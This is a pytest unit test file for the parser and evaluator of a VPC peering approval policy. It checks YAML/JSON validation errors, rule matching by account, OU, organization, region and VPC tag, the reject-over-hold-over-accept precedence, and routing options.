"""The approval policy: parsing and validation, then pure evaluation."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import yaml

from peering.core.cleanup_plan import CleanupOptions
from peering.core.errors import PolicyError
from peering.core.models import LedgerState, RequesterIdentity, RequesterVpc, Vpc
from peering.core.policy import (
    SCHEMA_VERSION,
    PolicyDecision,
    PolicyDocument,
    Verdict,
    evaluate,
    parse_policy,
    unavailable_policy_decision,
)
from peering.core.routing import RoutingOptions
from tests.unit.strategies import (
    HUB_ACCOUNT,
    MEMBER_ACCOUNT,
    ORG_ID,
    OTHER_ORG_ID,
    OTHER_REGION,
    OUTSIDER_ACCOUNT,
    PLATFORM_OU,
    REGION,
    ROOT_ID,
    SANDBOX_ACCOUNT,
    SANDBOX_OU,
    TEAM_OU,
    identity,
    policy,
    rule,
    vpc,
)

ROOT = Path(__file__).resolve().parents[2]
ANYONE: dict[str, object] = {"anyone": True}  # an accept rule open to every account, said explicitly

VALID_YAML = """
schemaVersion: 1
version: "2024-06-01.1"
rules:
  - name: platform-in
    description: platform accounts into opted-in VPCs
    action: accept
    requester:
      organizationalUnits: [ou-ab12-platform]
      organization: self
      regions: [us-east-1, eu-west-1]
    accepter:
      vpcTag: {key: "peering-autopilot:accept", value: "true"}
  - name: no-sandbox
    action: reject
    requester:
      accounts: ["333333333333"]
  - name: partner
    action: hold
    requester:
      accounts: ["444444444444"]
    accepter:
      accounts: ["111111111111"]
      vpcIds: [vpc-0a, vpc-0b]
"""


def _error(text: str | None) -> str:
    with pytest.raises(PolicyError) as caught:
        parse_policy(text)
    assert caught.value.kind == "invalid_policy"
    return str(caught.value)


def _doc(**overrides: object) -> str:
    base: dict[str, object] = {"schemaVersion": 1, "version": "v1", "rules": []}
    base.update(overrides)
    return json.dumps(base)


# --- parsing: what is accepted -------------------------------------------------------------------


def test_parses_yaml() -> None:
    got = parse_policy(VALID_YAML)
    assert got.schema_version == SCHEMA_VERSION == 1
    assert got.version == "2024-06-01.1"
    assert [r.name for r in got.rules] == ["platform-in", "no-sandbox", "partner"]
    first, second, third = got.rules
    assert first.action is Verdict.ACCEPT
    assert first.description == "platform accounts into opted-in VPCs"
    assert first.requester.organizational_units == ["ou-ab12-platform"]
    assert first.requester.organization == "self"
    assert first.requester.regions == ["us-east-1", "eu-west-1"]
    assert first.requester.accounts is None
    assert first.accepter.vpc_tag is not None
    assert (first.accepter.vpc_tag.key, first.accepter.vpc_tag.value) == ("peering-autopilot:accept", "true")
    assert second.action is Verdict.REJECT
    assert second.requester.accounts == ["333333333333"]
    assert third.action is Verdict.HOLD
    assert third.accepter.accounts == ["111111111111"]
    assert third.accepter.vpc_ids == ["vpc-0a", "vpc-0b"]


def test_parses_json_to_the_same_document() -> None:
    as_json = json.dumps(yaml.safe_load(VALID_YAML), indent=2)
    assert parse_policy("\n  " + as_json) == parse_policy(VALID_YAML)


def test_parses_a_yaml_flow_mapping_that_looks_like_json() -> None:
    got = parse_policy("{schemaVersion: 1, version: v7, rules: [{name: all, action: hold}]}")
    assert got.version == "v7"
    assert got.rules[0].name == "all"


def test_a_rule_without_criteria_has_empty_matchers() -> None:
    got = parse_policy(_doc(rules=[{"name": "everything", "action": "reject"}]))
    only = got.rules[0]
    assert only.requester.accounts is None
    assert only.requester.organizational_units is None
    assert only.requester.organization is None
    assert only.requester.regions is None
    assert only.accepter.accounts is None
    assert only.accepter.vpc_ids is None
    assert only.accepter.vpc_tag is None


def test_rules_may_be_absent_or_empty() -> None:
    assert parse_policy("schemaVersion: 1\nversion: v1\n").rules == []
    assert parse_policy("schemaVersion: 1\nversion: v1\nrules: []\n").rules == []
    assert parse_policy("schemaVersion: 1\nversion: v1\nrules:\n").rules == []


@pytest.mark.parametrize(
    ("raw", "expected"), [("7", "7"), ("2024-06-01", "2024-06-01"), ('"1.10"', "1.10"), ("v2", "v2")]
)
def test_version_is_kept_as_text(raw: str, expected: str) -> None:
    assert parse_policy(f"schemaVersion: 1\nversion: {raw}\n").version == expected


def test_schema_version_may_be_quoted() -> None:
    assert parse_policy('schemaVersion: "1"\nversion: v1\n').schema_version == 1


def test_a_tag_match_without_value_means_any_value() -> None:
    got = parse_policy(_doc(rules=[{"name": "r", "action": "reject", "accepter": {"vpcTag": {"key": "k"}}}]))
    tag = got.rules[0].accepter.vpc_tag
    assert tag is not None
    assert tag.value is None


# --- parsing: what is refused, and the message says why ------------------------------------------


@pytest.mark.parametrize("text", [None, "", "   ", "\n\n"])
def test_empty_policy(text: str | None) -> None:
    assert _error(text) == "the approval policy is empty or missing"


@pytest.mark.parametrize("text", ["- a\n- b\n", "just text", "42", "[1, 2]", "null", "~"])
def test_not_a_mapping(text: str) -> None:
    assert "must be a mapping with schemaVersion, version, rules" in _error(text)


@pytest.mark.parametrize(
    "text",
    [
        "schemaVersion: 1\nversion: [unclosed\n",
        "rules:\n  - name: a\n   action: accept\n",  # bad indentation
        "a: b: c\n",
        '{"schemaVersion": 1,, }',
        '{"schemaVersion": 1, "version": "v1"',
        'key: "unterminated\n',
    ],
)
def test_not_yaml_or_json(text: str) -> None:
    assert _error(text).startswith("the approval policy is not valid YAML/JSON: ")


def test_broken_json_reports_the_json_error() -> None:
    message = _error('{"schemaVersion": 1, "version": "v1"')
    assert "Expecting ',' delimiter" in message


def test_json_with_a_trailing_comma_is_still_a_valid_yaml_flow_mapping() -> None:
    assert parse_policy('{"schemaVersion": 1, "version": "v1",}').version == "v1"


@pytest.mark.parametrize(
    ("document", "where"),
    [
        ({"schemaVersion": 1, "version": "v1", "rulez": []}, "rulez"),
        ({"schemaVersion": 1, "version": "v1", "rules": [{"name": "a", "action": "hold", "when": 1}]}, "rules.0.when"),
        (
            {"schemaVersion": 1, "version": "v1", "rules": [{"name": "a", "action": "hold", "requester": {"ou": []}}]},
            "rules.0.requester.ou",
        ),
        (
            {"schemaVersion": 1, "version": "v1", "rules": [{"name": "a", "action": "hold", "accepter": {"tags": {}}}]},
            "rules.0.accepter.tags",
        ),
        (
            {
                "schemaVersion": 1,
                "version": "v1",
                "rules": [{"name": "a", "action": "hold", "accepter": {"vpcTag": {"key": "k", "values": ["x"]}}}],
            },
            "rules.0.accepter.vpcTag.values",
        ),
    ],
)
def test_unknown_keys_are_refused_and_named(document: dict[str, object], where: str) -> None:
    message = _error(json.dumps(document))
    assert message.startswith("the approval policy is invalid: ")
    assert f"{where}: Extra inputs are not permitted" in message


def test_a_misspelt_criterion_is_refused_rather_than_ignored() -> None:
    # Ignoring "acounts" would turn a narrow accept rule into an accept-everything rule.
    text = _doc(rules=[{"name": "a", "action": "accept", "requester": {"acounts": ["222222222222"]}}])
    assert "rules.0.requester.acounts: Extra inputs are not permitted" in _error(text)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (2, "schemaVersion: Value error, schemaVersion 2 is not supported (expected 1)"),
        (0, "schemaVersion 0 is not supported (expected 1)"),
        (True, "schemaVersion must be the number 1, not True"),
        ("one", "schemaVersion: Input should be a valid integer"),
    ],
)
def test_wrong_schema_version(value: object, expected: str) -> None:
    assert expected in _error(_doc(schemaVersion=value))


def test_schema_version_and_version_are_required() -> None:
    message = _error(json.dumps({"rules": []}))
    assert "schemaVersion: Field required" in message
    assert "version: Field required" in message


@pytest.mark.parametrize("version", ["", None, 1.5, ["v1"]])
def test_version_must_be_non_empty_text(version: object) -> None:
    assert "version:" in _error(_doc(version=version))


@pytest.mark.parametrize("account", ["12345", "abcdefghijkl", "1234567890123", "22222222222a", " 222222222222", ""])
@pytest.mark.parametrize("side", ["requester", "accepter"])
def test_bad_account_ids(side: str, account: str) -> None:
    text = _doc(rules=[{"name": "r", "action": "accept", side: {"accounts": ["222222222222", account]}}])
    message = _error(text)
    assert f"rules.0.{side}.accounts" in message
    assert f"{account!r} is not a 12-digit account id" in message


@pytest.mark.parametrize("side", ["requester", "accepter"])
def test_unquoted_account_ids_are_refused_with_a_hint(side: str) -> None:
    text = f"""
schemaVersion: 1
version: v1
rules:
  - name: r
    action: accept
    {side}:
      accounts: [222222222222]
"""
    message = _error(text)
    assert f"rules.0.{side}.accounts" in message
    assert "account id 222222222222 must be a quoted string" in message


def test_an_octal_looking_unquoted_account_id_is_refused() -> None:
    # YAML 1.1 reads 012345670123 as an octal number: never let it become another account id.
    message = _error(
        "schemaVersion: 1\nversion: v1\nrules:\n- {name: r, action: accept, requester: {accounts: [012345670123]}}\n"
    )
    assert "must be a quoted string" in message


def test_duplicate_rule_names() -> None:
    rules = [
        {"name": "a", "action": "accept", "requester": ANYONE},
        {"name": "b", "action": "hold"},
        {"name": "a", "action": "reject"},
        {"name": "b", "action": "reject"},
        {"name": "c", "action": "reject"},
    ]
    assert "rules: Value error, rule names must be unique: a, b" in _error(_doc(rules=rules))


@pytest.mark.parametrize("action", ["allow", "deny", "Accept", "", None, 1])
def test_bad_action(action: object) -> None:
    message = _error(_doc(rules=[{"name": "r", "action": action}]))
    assert "rules.0.action: Input should be 'accept', 'reject' or 'hold'" in message


@pytest.mark.parametrize(
    ("rule_doc", "expected"),
    [
        ({"action": "hold"}, "rules.0.name: Field required"),
        ({"name": "", "action": "hold"}, "rules.0.name: String should have at least 1 character"),
        ({"name": "r"}, "rules.0.action: Field required"),
        ({"name": "r", "action": "hold", "accepter": {"vpcTag": {"value": "v"}}}, "rules.0.accepter.vpcTag.key"),
        ({"name": "r", "action": "hold", "accepter": {"vpcTag": {"key": ""}}}, "rules.0.accepter.vpcTag.key"),
        ({"name": "r", "action": "hold", "requester": {"regions": "us-east-1"}}, "rules.0.requester.regions"),
        ({"name": "r", "action": "hold", "requester": ["x"]}, "rules.0.requester"),
    ],
)
def test_malformed_rules(rule_doc: dict[str, object], expected: str) -> None:
    assert expected in _error(_doc(rules=[rule_doc]))


def test_rules_must_be_a_list() -> None:
    assert "rules: Input should be a valid list" in _error(_doc(rules={"name": "a", "action": "hold"}))


def test_every_problem_is_reported_at_once() -> None:
    text = _doc(schemaVersion=3, rules=[{"name": "a", "action": "allow"}, {"name": "b", "action": "hold", "x": 1}])
    message = _error(text)
    assert "schemaVersion 3" in message
    assert "rules.0.action" in message
    assert "rules.1.x" in message


def test_the_document_is_immutable() -> None:
    got = parse_policy(VALID_YAML)
    with pytest.raises(ValueError, match="frozen"):
        got.version = "other"


# --- shipped policies and documentation ----------------------------------------------------------


def test_the_example_policy_is_valid_and_does_what_its_comments_say() -> None:
    text = (ROOT / "policy" / "example-policy.yaml").read_text()
    assert len(text.encode()) <= 4096, "a Standard-tier SSM parameter holds at most 4 KB"
    example = parse_policy(text)
    assert len(example.rules) >= 5
    hub = "o-a1b2c3d4e5"
    path = ("r-a1b2",)

    def who(account: str, ou: str | None, region: str = "us-east-1") -> RequesterIdentity:
        if ou is None:
            return identity(account=account, region=region, org_id=None, ou_path=())
        return identity(account=account, region=region, org_id=hub, ou_path=(*path, ou))

    def decide(requester: RequesterIdentity, target: Vpc) -> tuple[Verdict, str | None]:
        got = evaluate(example, requester, target, hub)
        return got.verdict, got.rule

    opted_in = vpc(vpc_id="vpc-0123", account="210987654321", tags={"peering-autopilot:accept": "true"})
    not_opted_in = vpc(vpc_id="vpc-0123", account="210987654321", tags={"peering-autopilot:accept": "false"})
    pci = vpc(
        vpc_id="vpc-0123",
        account="210987654321",
        tags={"peering-autopilot:accept": "true", "data-classification": "pci"},
    )
    shared = vpc(vpc_id="vpc-0a1b2c3d4e5f60718", account="123456789012")
    platform = who("210987654300", "ou-a1b2-11111111")
    sandbox = who("210987654301", "ou-a1b2-22222222")
    workload = who("210987654302", "ou-a1b2-33333333")

    assert decide(platform, opted_in) == (Verdict.ACCEPT, "platform-into-opted-in-vpcs")
    assert decide(platform, not_opted_in) == (Verdict.HOLD, None)
    assert decide(who("210987654300", "ou-a1b2-11111111", "eu-west-1"), opted_in)[0] is Verdict.ACCEPT
    assert decide(who("210987654300", "ou-a1b2-11111111", "ap-southeast-2"), opted_in) == (
        Verdict.HOLD,
        "other-regions-need-a-person",
    )
    assert decide(platform, pci) == (Verdict.REJECT, "no-pci-vpcs")
    assert decide(sandbox, opted_in) == (Verdict.REJECT, "no-sandbox")
    assert decide(sandbox, shared) == (Verdict.REJECT, "no-sandbox")
    assert decide(workload, shared) == (Verdict.ACCEPT, "workloads-into-shared-services")
    assert decide(workload, opted_in) == (Verdict.HOLD, None)
    assert decide(who("999988887777", None), shared) == (Verdict.HOLD, "partner-needs-a-person")
    assert decide(who("555566667777", None), opted_in) == (Verdict.HOLD, None)
    # The same organization layout under another organization id is a stranger too.
    assert evaluate(example, platform, opted_in, "o-other00000").verdict is Verdict.HOLD


def test_the_default_policy_holds_everything() -> None:
    default = parse_policy((ROOT / "policy" / "default-policy.yaml").read_text())
    assert default.rules == []
    decision = evaluate(default, identity(), vpc(tags={"peering-autopilot:accept": "true"}), ORG_ID)
    assert decision.verdict is Verdict.HOLD


def test_every_complete_policy_in_the_documentation_is_valid() -> None:
    text = (ROOT / "docs" / "policy.md").read_text()
    blocks = [b for b in re.findall(r"```(?:yaml|json)\n(.*?)```", text, flags=re.DOTALL) if "schemaVersion" in b]
    assert blocks, "docs/policy.md shows at least one complete policy"
    for block in blocks:
        parse_policy(block)


# --- evaluation ----------------------------------------------------------------------------------


def _verdict(doc: PolicyDocument, who: RequesterIdentity, target: Vpc, hub_org: str | None = ORG_ID) -> Verdict:
    return evaluate(doc, who, target, hub_org).verdict


def _accept_if(requester: dict[str, object] | None = None, accepter: dict[str, object] | None = None) -> PolicyDocument:
    """One accept rule; with no account, OU or organization named, it says ``anyone: true``."""
    if not {"accounts", "organizationalUnits", "organization"} & set(requester or {}):
        requester = {**(requester or {}), **ANYONE}
    return policy(rule("only", "accept", requester, accepter))


@pytest.mark.parametrize(
    ("accounts", "account", "matches"),
    [
        ([MEMBER_ACCOUNT], MEMBER_ACCOUNT, True),
        ([SANDBOX_ACCOUNT, MEMBER_ACCOUNT], MEMBER_ACCOUNT, True),
        ([SANDBOX_ACCOUNT], MEMBER_ACCOUNT, False),
        ([], MEMBER_ACCOUNT, False),
    ],
)
def test_requester_accounts(accounts: list[str], account: str, matches: bool) -> None:
    expected = Verdict.ACCEPT if matches else Verdict.HOLD
    assert _verdict(_accept_if({"accounts": accounts}), identity(account=account), vpc()) is expected


@pytest.mark.parametrize(
    ("ous", "path", "matches"),
    [
        ([PLATFORM_OU], (ROOT_ID, PLATFORM_OU), True),  # direct parent
        ([PLATFORM_OU], (ROOT_ID, PLATFORM_OU, TEAM_OU), True),  # an ancestor
        ([ROOT_ID], (ROOT_ID, SANDBOX_OU), True),  # the root
        ([TEAM_OU], (ROOT_ID, PLATFORM_OU), False),  # a child is not on the path
        ([SANDBOX_OU, TEAM_OU], (ROOT_ID, PLATFORM_OU, TEAM_OU), True),  # any of the list
        ([SANDBOX_OU], (ROOT_ID, PLATFORM_OU, TEAM_OU), False),
        ([PLATFORM_OU], (), False),  # outside the organization
    ],
)
def test_requester_organizational_units(ous: list[str], path: tuple[str, ...], matches: bool) -> None:
    who = identity(ou_path=path, org_id=ORG_ID if path else None)
    expected = Verdict.ACCEPT if matches else Verdict.HOLD
    assert _verdict(_accept_if({"organizationalUnits": ous}), who, vpc()) is expected


@pytest.mark.parametrize(
    ("organization", "requester_org", "hub_org", "matches"),
    [
        (ORG_ID, ORG_ID, ORG_ID, True),
        (ORG_ID, ORG_ID, None, True),  # an explicit id does not depend on the hub
        (ORG_ID, OTHER_ORG_ID, ORG_ID, False),
        (ORG_ID, None, ORG_ID, False),
        ("self", ORG_ID, ORG_ID, True),
        ("self", OTHER_ORG_ID, ORG_ID, False),
        ("self", ORG_ID, OTHER_ORG_ID, False),
        ("self", None, ORG_ID, False),
        ("self", None, None, False),  # a hub outside any organization: "self" never matches
        ("self", ORG_ID, None, False),
    ],
)
def test_requester_organization(
    organization: str, requester_org: str | None, hub_org: str | None, matches: bool
) -> None:
    who = identity(org_id=requester_org, ou_path=(ROOT_ID,) if requester_org else ())
    expected = Verdict.ACCEPT if matches else Verdict.HOLD
    assert _verdict(_accept_if({"organization": organization}), who, vpc(), hub_org) is expected


@pytest.mark.parametrize(
    ("regions", "region", "matches"),
    [([REGION], REGION, True), ([OTHER_REGION, REGION], REGION, True), ([OTHER_REGION], REGION, False)],
)
def test_requester_regions(regions: list[str], region: str, matches: bool) -> None:
    expected = Verdict.ACCEPT if matches else Verdict.HOLD
    assert _verdict(_accept_if({"regions": regions}), identity(region=region), vpc()) is expected


@pytest.mark.parametrize(
    ("accounts", "account", "matches"),
    [
        ([HUB_ACCOUNT], HUB_ACCOUNT, True),
        ([MEMBER_ACCOUNT, HUB_ACCOUNT], HUB_ACCOUNT, True),
        ([MEMBER_ACCOUNT], HUB_ACCOUNT, False),
    ],
)
def test_accepter_accounts(accounts: list[str], account: str, matches: bool) -> None:
    expected = Verdict.ACCEPT if matches else Verdict.HOLD
    assert _verdict(_accept_if(accepter={"accounts": accounts}), identity(), vpc(account=account)) is expected


@pytest.mark.parametrize(
    ("vpc_ids", "vpc_id", "matches"),
    [(["vpc-0a"], "vpc-0a", True), (["vpc-0b", "vpc-0a"], "vpc-0a", True), (["vpc-0b"], "vpc-0a", False)],
)
def test_accepter_vpc_ids(vpc_ids: list[str], vpc_id: str, matches: bool) -> None:
    expected = Verdict.ACCEPT if matches else Verdict.HOLD
    assert _verdict(_accept_if(accepter={"vpcIds": vpc_ids}), identity(), vpc(vpc_id=vpc_id)) is expected


@pytest.mark.parametrize(
    ("tag", "tags", "matches"),
    [
        ({"key": "opt-in"}, {"opt-in": "true"}, True),
        ({"key": "opt-in"}, {"opt-in": ""}, True),  # key only: any value, even empty
        ({"key": "opt-in"}, {"other": "true"}, False),
        ({"key": "opt-in"}, {}, False),
        ({"key": "opt-in", "value": "true"}, {"opt-in": "true"}, True),
        ({"key": "opt-in", "value": "true"}, {"opt-in": "false"}, False),
        ({"key": "opt-in", "value": "true"}, {"opt-in": "True"}, False),  # values are case-sensitive
        ({"key": "opt-in", "value": "true"}, {"Opt-In": "true"}, False),  # keys too
        ({"key": "opt-in", "value": "true"}, {}, False),
        ({"key": "opt-in", "value": ""}, {"opt-in": ""}, True),
        ({"key": "opt-in", "value": ""}, {"opt-in": "x"}, False),
    ],
)
def test_accepter_vpc_tag(tag: dict[str, str], tags: dict[str, str], matches: bool) -> None:
    expected = Verdict.ACCEPT if matches else Verdict.HOLD
    assert _verdict(_accept_if(accepter={"vpcTag": tag}), identity(), vpc(tags=tags)) is expected


def test_a_rule_without_criteria_matches_everything() -> None:
    doc = policy(rule("all", "reject"))
    assert _verdict(doc, identity(account=OUTSIDER_ACCOUNT, org_id=None, ou_path=()), vpc(), None) is Verdict.REJECT
    assert _verdict(doc, identity(), vpc(tags={"x": "y"})) is Verdict.REJECT


def test_criteria_are_combined_with_and() -> None:
    doc = _accept_if(
        {
            "accounts": [MEMBER_ACCOUNT],
            "regions": [REGION],
            "organizationalUnits": [PLATFORM_OU],
            "organization": "self",
        },
        {"accounts": [HUB_ACCOUNT], "vpcIds": ["vpc-accepter"], "vpcTag": {"key": "opt-in", "value": "true"}},
    )
    who = identity()
    target = vpc(tags={"opt-in": "true"})
    assert _verdict(doc, who, target) is Verdict.ACCEPT
    # Each criterion alone failing is enough to fall through to the default hold.
    failing = [
        (identity(account=SANDBOX_ACCOUNT), target, ORG_ID),
        (identity(region=OTHER_REGION), target, ORG_ID),
        (identity(ou_path=(ROOT_ID, SANDBOX_OU)), target, ORG_ID),
        (who, target, OTHER_ORG_ID),
        (who, vpc(account=MEMBER_ACCOUNT, tags={"opt-in": "true"}), ORG_ID),
        (who, vpc(vpc_id="vpc-other", tags={"opt-in": "true"}), ORG_ID),
        (who, vpc(tags={"opt-in": "false"}), ORG_ID),
    ]
    for requester, accepter_vpc, hub_org in failing:
        assert _verdict(doc, requester, accepter_vpc, hub_org) is Verdict.HOLD, (requester, accepter_vpc, hub_org)


def test_requester_and_accepter_sides_must_both_match() -> None:
    doc = _accept_if({"accounts": [MEMBER_ACCOUNT]}, {"vpcIds": ["vpc-accepter"]})
    assert _verdict(doc, identity(), vpc()) is Verdict.ACCEPT
    assert _verdict(doc, identity(), vpc(vpc_id="vpc-0b")) is Verdict.HOLD
    assert _verdict(doc, identity(account=SANDBOX_ACCOUNT), vpc()) is Verdict.HOLD


@pytest.mark.parametrize(
    "order",
    [
        ("accept", "hold", "reject"),
        ("reject", "hold", "accept"),
        ("hold", "reject", "accept"),
        ("accept", "reject", "hold"),
    ],
)
def test_reject_wins_over_hold_wins_over_accept_whatever_the_order(order: tuple[str, ...]) -> None:
    rules = [rule(f"{action}-rule", action, ANYONE) for action in order]
    assert _verdict(policy(*rules), identity(), vpc()) is Verdict.REJECT
    without_reject = [r for r in rules if r["action"] != "reject"]
    assert _verdict(policy(*without_reject), identity(), vpc()) is Verdict.HOLD
    only_accept = [r for r in rules if r["action"] == "accept"]
    assert _verdict(policy(*only_accept), identity(), vpc()) is Verdict.ACCEPT


def test_rules_that_do_not_match_take_no_part() -> None:
    doc = policy(
        rule("reject-sandbox", "reject", {"accounts": [SANDBOX_ACCOUNT]}),
        rule("hold-other-region", "hold", {"regions": [OTHER_REGION]}),
        rule("accept-member", "accept", {"accounts": [MEMBER_ACCOUNT]}),
    )
    got = evaluate(doc, identity(), vpc(), ORG_ID)
    assert got == PolicyDecision(Verdict.ACCEPT, ("rule 'accept-member' says accept",), "accept-member", "v1")


def test_no_match_holds_by_default_and_says_so() -> None:
    doc = policy(rule("other", "accept", {"accounts": [SANDBOX_ACCOUNT]}), version="2024-06-01")
    got = evaluate(doc, identity(account=OUTSIDER_ACCOUNT, org_id=None, ou_path=()), vpc(vpc_id="vpc-0a"), ORG_ID)
    assert got.verdict is Verdict.HOLD
    assert got.rule is None
    assert got.policy_version == "2024-06-01"
    assert got.reasons == (
        f"no rule of policy 2024-06-01 matches requester {OUTSIDER_ACCOUNT} ({REGION}) for vpc-0a: held by default",
    )


def test_an_empty_policy_holds_everything() -> None:
    got = evaluate(policy(), identity(), vpc(), ORG_ID)
    assert (got.verdict, got.rule, got.policy_version) == (Verdict.HOLD, None, "v1")
    assert "held by default" in got.reasons[0]


def test_reasons_name_the_winner_and_every_overridden_rule() -> None:
    doc = policy(
        rule("accept-a", "accept", ANYONE),
        rule("hold-b", "hold"),
        rule("reject-c", "reject"),
        rule("accept-d", "accept", ANYONE),
        rule("unrelated", "reject", {"accounts": [SANDBOX_ACCOUNT]}),
    )
    got = evaluate(doc, identity(), vpc(), ORG_ID)
    assert got.rule == "reject-c"
    assert got.reasons == ("rule 'reject-c' says reject", "it overrides 'accept-a', 'hold-b', 'accept-d'")


def test_the_first_of_several_rules_with_the_winning_action_is_named() -> None:
    doc = policy(rule("accept-1", "accept", ANYONE), rule("reject-1", "reject"), rule("reject-2", "reject"))
    got = evaluate(doc, identity(), vpc(), ORG_ID)
    assert got.rule == "reject-1"
    assert got.reasons == ("rule 'reject-1' says reject", "it overrides 'accept-1'")


def test_a_single_match_has_no_override_reason() -> None:
    got = evaluate(policy(rule("hold-all", "hold")), identity(), vpc(), ORG_ID)
    assert got == PolicyDecision(Verdict.HOLD, ("rule 'hold-all' says hold",), "hold-all", "v1")


def test_a_rule_named_hold_wins_over_accept_with_its_own_name() -> None:
    doc = policy(
        rule("accept-platform", "accept", {"organizationalUnits": [PLATFORM_OU]}),
        rule("partner", "hold", {"accounts": [MEMBER_ACCOUNT]}),
    )
    got = evaluate(doc, identity(), vpc(), ORG_ID)
    assert (got.verdict, got.rule) == (Verdict.HOLD, "partner")
    assert got.reasons[1] == "it overrides 'accept-platform'"


def test_evaluate_records_the_policy_version() -> None:
    doc = policy(rule("a", "accept", ANYONE), version="v42")
    assert evaluate(doc, identity(), vpc(), ORG_ID).policy_version == "v42"


def test_unavailable_policy_holds_and_says_why() -> None:
    got = unavailable_policy_decision(PolicyError("the approval policy is empty or missing"))
    assert got == PolicyDecision(
        Verdict.HOLD, ("policy unavailable, holding: the approval policy is empty or missing",), None, None
    )


# --- the routing section (parsed with the rest of the document) ----------------------------------


def test_routing_defaults_when_the_section_is_absent() -> None:
    routing = parse_policy(_doc()).routing
    assert routing.ipv6 is False
    assert routing.exclude_cidrs == []
    assert routing.route_tables.select.value == "all"
    assert routing.route_tables.tag is None
    assert routing.dns_resolution is True


def test_routing_section_is_read() -> None:
    routing = parse_policy(
        _doc(
            routing={
                "ipv6": True,
                "excludeCidrs": ["100.64.0.0/10"],
                "routeTables": {"select": "tagged", "tag": {"key": "peering"}},
                "dnsResolution": False,
            }
        )
    ).routing
    assert (routing.ipv6, routing.exclude_cidrs, routing.dns_resolution) == (True, ["100.64.0.0/10"], False)
    assert routing.route_tables.select.value == "tagged"
    assert routing.route_tables.tag is not None
    assert routing.route_tables.tag.key == "peering"


@pytest.mark.parametrize(
    ("routing", "expected"),
    [
        ({"routeTables": {"select": "tagged"}}, "routeTables.select 'tagged' needs routeTables.tag"),
        ({"routeTables": {"select": "subnets"}}, "routeTables.select 'subnets' needs routeTables.tag"),
        ({"routeTables": {"select": "some"}}, "routing.routeTables.select"),
        ({"excludeCidrs": ["10.0.0.0/33"]}, "'10.0.0.0/33' is not a CIDR block"),
        ({"ipv4": True}, "routing.ipv4: Extra inputs are not permitted"),
    ],
)
def test_routing_section_errors(routing: dict[str, object], expected: str) -> None:
    assert expected in _error(_doc(routing=routing))


def test_duplicate_keys_are_refused_not_silently_replaced() -> None:
    text = (
        "schemaVersion: 1\nversion: dup\nrules:\n"
        "  - name: narrow\n    action: accept\n"
        "    requester: {accounts: ['111111111111']}\n"
        "    requester: {}\n"  # would widen the rule to every requester
    )
    with pytest.raises(PolicyError, match="duplicate key 'requester'"):
        parse_policy(text)


# --- destinations by subnet, and routing per rule -------------------------------------------------


def test_destinations_by_subnet_and_unmanaged_routes_are_read() -> None:
    routing = parse_policy(
        _doc(routing={"destinations": "subnets", "destinationTag": {"key": "share", "value": "peers"}})
    ).routing
    assert routing.destinations.value == "subnets"
    assert routing.destination_tag is not None
    assert (routing.destination_tag.key, routing.destination_tag.value) == ("share", "peers")
    assert routing.routes.value == "managed"
    assert parse_policy(_doc(routing={"routes": "none"})).routing.routes.value == "none"


@pytest.mark.parametrize(
    ("routing", "expected"),
    [
        ({"destinations": "subnets"}, "destinations 'subnets' needs destinationTag"),
        ({"destinations": "subnet"}, "routing.destinations"),
        ({"destinationTag": {"kee": "share"}}, "routing.destinationTag.kee: Extra inputs are not permitted"),
        ({"routes": "off"}, "routing.routes"),
    ],
)
def test_destination_errors(routing: dict[str, object], expected: str) -> None:
    assert expected in _error(_doc(routing=routing))


def _accept_rule(name: str, routing: dict[str, object] | None = None, action: str = "accept") -> dict[str, object]:
    out: dict[str, object] = {"name": name, "action": action, "requester": ANYONE}
    return {**out, **({"routing": routing} if routing is not None else {})}


def test_a_rule_routing_overrides_only_the_fields_it_names() -> None:
    document = parse_policy(
        _doc(
            routing={"ipv6": True, "excludeCidrs": ["100.64.0.0/10"], "dnsResolution": False},
            rules=[
                _accept_rule("shared", {"destinations": "subnets", "destinationTag": {"key": "share"}}),
                _accept_rule("self-routed", {"routes": "none"}),
                _accept_rule("plain"),
            ],
        )
    )
    base = RoutingOptions(routes_per_table=20)

    shared = document.routing_options("shared", base)
    assert (shared.destinations.value, shared.destination_tag_key, shared.destination_tag_value) == (
        "subnets",
        "share",
        None,
    )
    assert (shared.ipv6, shared.exclude, shared.dns_resolution) == (True, ("100.64.0.0/10",), False)  # fell back
    assert shared.routes_per_table == 20  # the deployment's setting
    assert shared.source == "rule 'shared' (policy v1)"
    assert document.routing_options("self-routed", base).routes.value == "none"
    assert document.routing_options("plain", base).source == "the policy document (policy v1)"
    assert document.routing_options(None, base).destinations.value == "vpc"
    gone = document.routing_options("retired", base)
    assert gone.source == "the policy document (policy v1); its rule 'retired' is no longer in the policy"
    assert document.has_rule_routing
    assert document.reads_subnets


def test_a_document_without_rule_routing_reads_no_subnets_and_no_records() -> None:
    document = parse_policy(_doc(rules=[_accept_rule("plain")]))
    assert not document.has_rule_routing
    assert not document.reads_subnets
    assert parse_policy(_doc(routing={"routeTables": {"select": "subnets", "tag": {"key": "t"}}})).reads_subnets
    unmanaged = {"routes": "none", "destinations": "subnets", "destinationTag": {"key": "t"}}
    assert not parse_policy(_doc(routing=unmanaged)).reads_subnets  # no route planned, nothing to read


@pytest.mark.parametrize(
    ("rule_doc", "expected"),
    [
        (_accept_rule("r", {"routes": "none"}, action="hold"), "routing applies to accept rules only"),
        (_accept_rule("r", {"routes": "none"}, action="reject"), "routing applies to accept rules only"),
        (_accept_rule("r", {"destinations": "subnets"}), "destinations 'subnets' needs destinationTag"),
        (_accept_rule("r", {"ipv4": True}), "rules.0.routing.ipv4: Extra inputs are not permitted"),
        (_accept_rule("r", {"routeTables": {"select": "tagged"}}), "needs routeTables.tag"),
    ],
)
def test_rule_routing_errors(rule_doc: dict[str, object], expected: str) -> None:
    assert expected in _error(_doc(rules=[rule_doc]))


@pytest.mark.parametrize(
    ("decision", "decided_by", "rule_name", "expected"),
    [
        ("accepted", "policy", "shared", "shared"),
        ("accepted", "operator:alice", "shared", None),  # an operator's approval: the document's
        ("held", "policy", "shared", None),
        ("rejected", "policy", "shared", None),
    ],
)
def test_only_a_rule_that_accepted_picks_the_routing(
    decision: str, decided_by: str, rule_name: str, expected: str | None
) -> None:
    state = LedgerState("pcx-1", decision, "v1", "active", decided_by=decided_by, rule=rule_name)
    assert state.accepting_rule == expected


def test_reminder_points_default_to_one_day_and_are_carried_largest_first() -> None:
    base = {"schemaVersion": 1, "version": "r1"}
    assert parse_policy(json.dumps(base)).cleanup.to_options().remind_before_expiry_hours == (24,)
